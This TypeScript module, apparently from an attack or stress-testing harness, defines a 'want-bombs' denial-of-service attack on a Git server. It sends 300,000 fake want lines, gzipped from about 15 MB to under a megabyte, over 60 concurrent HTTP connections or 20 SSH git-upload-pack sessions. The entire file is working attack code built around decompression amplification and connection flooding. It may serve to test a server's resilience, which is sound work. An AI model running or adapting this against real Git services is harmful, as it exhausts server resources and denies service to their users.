import { gzipSync } from 'node:zlib'
import { fetchBody, fetchHeaders } from '../wire/fetch-request.ts'
import { hammer } from '../wire/hammer.ts'
import { requestBytes } from '../wire/request.ts'
import { basic } from '../wire/sender.ts'
import { channelClosed, holdOverSsh, runOverSsh } from '../wire/ssh.ts'
import { type Attack, factOf } from './attack.ts'

const wants = 300_000

/** Inflated each holds 15 MB, and more once it is read into lines. */
export const wantBombs: Attack = {
  name: 'want-bombs',
  about: '60 fetches at once with 300,000 wants each, under a megabyte once deflated',
  doors: ['http', 'ssh'],
  roles: ['visitor', 'account'],
  grave: true,
  async prepare({ shared }) {
    return { repository: [shared.repository] }
  },
  async play(play) {
    const repository = factOf(play, 'repository')
    const lines = Array.from({ length: wants }, (_, n) => `want ${n.toString(16).padStart(40, '0')}`)
    const body = fetchBody(lines)
    if (play.phase.door === 'ssh') {
      return holdOverSsh(play, {
        connections: 20,
        async work(client) {
          const command = `git-upload-pack '/${repository}.git'`
          const channel = await runOverSsh(client, { command, protocol: 'version=2' })
          channel.resume()
          channel.write(body)
          await channelClosed(channel)
          play.count('ended by the server')
        },
      })
    }
    const zipped = gzipSync(body)
    const made = new Map(
      play.senders.map((sender) => [
        sender,
        requestBytes({
          method: 'POST',
          path: `/${repository}.git/git-upload-pack`,
          headers: { ...fetchHeaders, ...basic(sender), 'content-encoding': 'gzip' },
          body: zipped,
        }),
      ]),
    )
    return hammer(play, { connections: 60, request: (sender) => made.get(sender) ?? zipped })
  },
}
